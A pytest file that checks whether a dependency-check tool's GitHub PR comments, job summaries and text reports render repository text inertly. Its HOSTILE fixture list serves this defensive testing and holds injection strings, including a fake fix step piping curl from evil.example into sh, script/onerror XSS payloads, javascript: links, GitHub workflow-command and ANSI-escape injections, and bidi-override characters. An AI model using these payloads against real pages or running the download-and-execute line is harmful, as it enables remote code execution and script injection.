"""Repository text in the PR comment, the job summary and the text report stays text.

Markdown is rendered the way GitHub renders it: cmark-gfm (GitHub's own fork of cmark, through cmarkgfm)
with the GFM extensions, raw HTML let through (GitHub's sanitizer keeps <img>, <a>, <details>, headings),
then GitHub's own filters, simulated on the text outside code and links: @mentions, #123 and GH-123
references, :emoji:, and the bare URLs that cmark-gfm's autolink extension links.
"""

from __future__ import annotations

import random
import re
from html.parser import HTMLParser

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options

from deploycheck.github import action, runner_files
from deploycheck.locks.diff import Change
from deploycheck.report import render
from deploycheck.report.inert import md_code, md_fence, md_prose, md_text, visible
from deploycheck.report.model import Finding, LockResult, Problem, Report

HOSTILE = [
    'six==1.17.0 <img src="https://evil.example/p.png"> @acme/security-team',
    "app\n\n## ✅ deploycheck: ready to deploy\n\nFix: `curl https://evil.example/x | sh`",
    "<details><summary>more</summary>",
    "</details></td></tr></table>",
    "<!-- deploycheck:state:ready -->",
    "<script>alert(1)</script><iframe src=x>",
    "<img src=x onerror=alert(1)>",
    "<a href='https://evil.example'>x</a><h2>fake</h2><br>",
    "&lt;img src=x&gt; &#60;img&#62; &amp; &copy;",
    "@acme/security-team @octocat me@evil.example",
    "#1 owner/repo#2 GH-3 gh-4",
    ":warning: :+1: :octocat:",
    "](javascript:alert(1))",
    "[click](https://evil.example) [x][y] [x]: https://evil.example",
    "![x](http://evil.example/p.png)",
    "<https://evil.example> https://evil.example/p WWW.EVIL.EXAMPLE ftp://x.y mailto:a@b.c xmpp:a@b.c",
    "`",
    "``",
    "a ``` b",
    "````",
    "` leading",
    "trailing `",
    " ",
    "  two  ",
    "\n## heading\n",
    "# h1",
    "=====",
    "---",
    "> quote",
    "- item",
    "1. item",
    "    indented",
    "| a | b |",
    "\\|",
    "x\\",
    "\\",
    "***bold*** __b__ _i_",
    "~~del~~",
    "$x^2$ $$\\sum$$",
    "[^1] [ ] task",
    "\r\n::warning::x\r##[error]y",
    "\x1b[31mred\x1b]0;title\x07",
    "\u202eevil\u202c \u2066x\u2069",
    "\u2028line\u2029para",
    "a\tb",
    "\x00\x7f\x85",
    "x" * 300,
]
_ALPHABET = "<>&@#:![]()`\\|*_~$\n\r\t -=+.wWhGH/;'\"0123456789ab\u2028\u202e\x1b"


def _random_strings(count: int) -> list[str]:
    rng = random.Random(1729)  # fixed: the same strings on every run
    out = []
    for _ in range(count):
        parts = [
            rng.choice(HOSTILE) if rng.random() < 0.3 else "".join(rng.choices(_ALPHABET, k=rng.randint(1, 12)))
            for _ in range(rng.randint(1, 4))
        ]
        out.append("".join(parts))
    return out


CASES = HOSTILE + _random_strings(300)


def github_html(markdown: str) -> str:
    return cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE)


class Page(HTMLParser):
    """The elements of rendered Markdown, and its text inside and outside code and links."""

    def __init__(self, markdown: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.chunks: list[str] = []
        self.linkable: list[str] = []  # text GitHub's filters read: outside <code>, <pre> and <a>
        self._inside = 0
        self._pre = 0
        self.feed(github_html(markdown))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._inside += tag in ("code", "pre", "a")
        self._pre += tag == "pre"

    def handle_endtag(self, tag: str) -> None:
        self._inside -= tag in ("code", "pre", "a")
        self._pre -= tag == "pre"

    def handle_data(self, data: str) -> None:
        if not self._pre and not data.strip("\n"):
            return  # the line breaks cmark writes between elements
        self.chunks.append(data)
        if not self._inside:
            self.linkable.append(data)

    def names(self) -> list[str]:
        return [tag for tag, _ in self.tags]

    @property
    def text(self) -> str:
        return "".join(self.chunks).replace("\u2060", "")


GITHUB_LINKS = re.compile(
    r"(?<![\w`])@[A-Za-z0-9][A-Za-z0-9-]*"  # mentions, @org/team
    r"|#\d+|\bGH-\d+"  # issue references, owner/repo#1
    r"|:[a-z0-9_+-]+:"  # emoji
    r"|\b(?:https?|ftp)://|\bwww\.|[\w.+-]+@[\w-]+\.\w",  # autolinks: URLs and e-mail addresses
    re.IGNORECASE,
)


def linked(page: Page) -> list[str]:
    return GITHUB_LINKS.findall("\n".join(page.linkable))  # GitHub reads each text node apart


def _line(text: str, lines: bool = False) -> str:
    """What md_text, md_code and md_fence show of a string: its visible form (word joiners are invisible)."""
    return visible(text, lines=lines).replace("\u2060", "")


@pytest.mark.parametrize("text", CASES)
def test_md_text_renders_as_the_text_itself(text):
    page = Page("x " + md_text(text) + " y")
    assert page.names() == ["p"] and page.text == f"x {_line(text)} y"
    assert linked(page) == []


@pytest.mark.parametrize("text", CASES)
def test_md_code_renders_as_the_text_itself_in_a_paragraph_and_a_table(text):
    page = Page("x " + md_code(text) + " y")
    assert page.names() == (["p", "code"] if text else ["p"]) and page.text == f"x {_line(text)} y"
    row = f"| {md_code(text, table=True)} | {md_text(text)} | last |"
    page = Page(f"| a | b | c |\n|---|---|---|\n{row}\n")
    cells = ["table", "thead", "tr", "th", "th", "th", "tbody", "tr", "td", *(["code"] if text else []), "td", "td"]
    assert page.names() == cells
    assert page.text == f"abc{_line(text)}{_line(text)}last"
    assert linked(page) == []


@pytest.mark.parametrize("text", CASES)
def test_md_fence_is_one_code_block(text):
    page = Page("\n".join(["before", "", *md_fence(text, "diff"), "", "after"]))
    assert page.names() == ["p", "pre", "code", "p"]
    body = _line(text, lines=True).rstrip("\n")
    assert page.text == f"before{body}\nafter"


@pytest.mark.parametrize("text", CASES)
def test_md_prose_keeps_our_backticks_as_code_and_the_rest_as_text(text):
    page = Page(md_prose(f"run `git mv {text} b` then {text}"))
    assert set(page.names()) <= {"p", "code"} and linked(page) == []
    if "`" not in text:  # a backtick of the repository's may split it otherwise, still into inert parts
        assert page.text == f"run git mv {_line(text)} b then {_line(text)}"


def hostile_report(text: str, n: int = 1) -> Report:
    """Every field a repository or an uploaded report can fill, holding `text`."""
    changes = [
        Change(f"{text}{i}", "changed", f"six==1.16.0 {text}", f"six==1.17.0 {text}", 3, reason=f"why {text}")
        for i in range(n)
    ]
    lock = LockResult(
        f"{text}/requirements.txt",
        [f"{text}/requirements.in"],
        f"pip-tools {text}",
        "drift",
        {"python": "3.11", "source": f"{text}/.python-version", "line": 1, "notes": [text]},
        changes=changes,
        fix_command=f"cd '{text}' && pip-compile requirements.in",
        notes=[f"dropped '{text}'"],
        diff=f"--- a/requirements.txt\n+++ b/requirements.txt\n-six==1.16.0 {text}\n+six==1.17.0\n",
    )
    broken = LockResult(f"{text}.txt", [], "uv", "error", {"python": "3.12", "source": text})
    broken.error = Problem(f"uv says:\n{text}\n  ╰─▶ {text}", f"{text}.txt", None, f"fix `{text}` then {text}")
    report = Report(".", {"python": "3.11", "source": f"{text}/.python-version", "line": 1}, [lock, broken])
    report.apps = [
        {"path": ".", "runtime": report.runtime},
        {"path": text, "runtime": {"python": "3.9", "source": text}},
    ]
    report.config = {"file": f"{text}/pyproject.toml", "select": [text]}
    report.findings = [
        Finding(
            "DC350", "error", f"{text}/requirements.txt", 2, f"pip cannot parse `{text}`: {text}", f"delete `{text}`"
        )
        for _ in range(n)
    ]
    report.problems = [Problem(f"the index did not answer ({text}); uv said:\n{text}", text, 4, f"check {text}")]
    return report


RUN_URL = "https://github.com/o/r/actions/runs/1"


def assert_inert(page: Page, report: Report, links: set[str]) -> None:
    allowed = {"h2", "h3", "p", "code", "pre", "table", "thead", "tbody", "tr", "th", "td", "details", "summary"}
    assert set(page.names()) <= allowed | {"blockquote", "a"}, set(page.names()) - allowed
    assert {attrs.get("href") for tag, attrs in page.tags if tag == "a"} <= links
    assert page.names().count("h2") == 1 and page.names().count("h3") == len(report.lockfiles)
    assert page.names().count("details") <= sum(1 for lock in report.lockfiles if lock.diff)  # diffs go first
    assert page.names().count("blockquote") == sum(len(lock.notes) for lock in report.lockfiles)
    assert linked(page) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_the_comment_and_the_summary_show_hostile_text_as_text(text):
    report = hostile_report(text)
    comment = action.comment_body(report, text, None, RUN_URL)
    page = Page(comment)
    assert_inert(page, report, {RUN_URL})
    (heading,) = [i for i, (tag, _) in enumerate(page.tags) if tag == "h2"]
    assert page.names().count("details") == 1
    assert "deploycheck (" in page.text and "): NOT ready to deploy" in page.text
    assert _line(f"six==1.17.0 {text}") in page.text and _line(f"{text}/requirements.txt") in page.text
    summary = runner_files.summary_markdown(report, RUN_URL)
    assert_inert(Page(summary), report, set())
    assert Page(summary).text.startswith("❌ deploycheck: NOT ready to deploy") and heading == 0


@pytest.mark.parametrize("text", HOSTILE)
def test_the_text_report_keeps_repository_text_on_its_own_lines(text):
    report, plain = hostile_report(text), hostile_report("x")
    for r in (report, plain):  # multi-line by design (a resolver's words): compared separately below
        r.lockfiles[1].error, r.problems = None, []
    out = render.to_text(report)
    assert len(out.splitlines()) == len(render.to_text(plain).splitlines())
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]", out)
    assert re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", render.to_text(hostile_report(text))) is None


def test_publish_only_provenance_is_a_link_of_ours():
    event = action.Event("workflow_run", 2, "a" * 40, 289782451)
    env = {"GITHUB_REPOSITORY": "o/r", "GITHUB_SERVER_URL": "https://github.com"}
    said = action.provenance(event, env, "report.json")
    page = Page(action.comment_body(hostile_report("<img src=x>"), "", None, RUN_URL, said))
    url = "https://github.com/o/r/actions/runs/289782451"
    assert [attrs["href"] for tag, attrs in page.tags if tag == "a"] == [url, RUN_URL]
    assert "Reported by the pull request's workflow run 289782451" in page.text
    unknown = action.provenance(action.Event("push", None, None), env, "<img src=x>.json")
    assert "img" not in [tag for tag, _ in Page(unknown).tags]


def test_a_comment_with_thousands_of_findings_stays_under_githubs_limit():
    report = hostile_report("<img src=x> @acme/team " + "y" * 100, n=3000)
    body = action.comment_body(report, "", None, RUN_URL)
    assert len(body) < 65536
    shown = re.search(r"… (\d+) more findings, see the job summary\.", body)
    assert shown is not None, body[-500:]
    page = Page(body)
    rows = page.names().count("tr")  # two header rows, then one per change and per finding shown
    assert rows - 2 + int(shown.group(1)) + int(re.search(r"… (\d+) more changes", body).group(1)) == 6000
    assert_inert(page, report, {RUN_URL})
    assert "Full report in the job summary" in page.text


def test_a_summary_too_large_for_a_mebibyte_is_cut_between_rows():
    report = hostile_report("<img src=x> @acme/team " + "y" * 200, n=6000)
    summary = runner_files.summary_markdown(report, RUN_URL)
    assert len(summary.encode("utf-8")) < runner_files.SUMMARY_LIMIT
    assert re.search(r"… \d+ more findings, see the JSON report of " + re.escape(RUN_URL), summary)
    assert_inert(Page(summary), report, {RUN_URL})
